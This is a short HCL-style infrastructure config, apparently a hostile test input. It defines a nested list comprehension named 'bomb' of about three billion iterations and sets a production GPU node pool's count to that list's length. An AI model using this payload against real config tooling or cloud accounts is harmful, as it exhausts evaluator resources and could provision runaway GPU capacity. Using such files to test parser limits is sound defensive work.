locals {
  empty = [for i in range(30000) : ""]
  bomb  = [for i in range(100000) : join("", local.empty)]
}

nodepool "train" {
  pool   = "pool-prod"
  flavor = "modelarts.vm.gpu.t4u8"
  count  = length(local.bomb)
}
